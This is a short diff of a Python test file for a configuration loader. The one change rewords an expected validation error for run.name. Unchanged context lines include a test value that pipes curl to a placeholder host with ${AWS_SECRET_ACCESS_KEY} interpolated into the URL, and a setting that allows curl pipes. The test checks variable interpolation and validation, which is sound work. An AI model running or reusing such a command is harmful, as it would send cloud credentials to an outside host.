@@ -147,7 +147,7 @@ def test_programs_get_no_variables_and_other_keys_have_none():
     url = "pipe:curl -sf https://host/${DATA}/${AWS_SECRET_ACCESS_KEY}"
     assert load_config(DEMO, [f"data.shards={url}", "data.allow_pipe=[curl]"]).data.shards == url
     (line,) = problems("run.name=${DATA}")
-    assert line.startswith("run.name: '${DATA}' is not allowed; it should match pattern")
+    assert line.startswith("run.name: '${DATA}' is not allowed; it should be letters, digits")
     assert load_config(DEMO, ["data.caption_prompt=${DATA}?"]).data.caption_prompt == "${DATA}?"
 
 
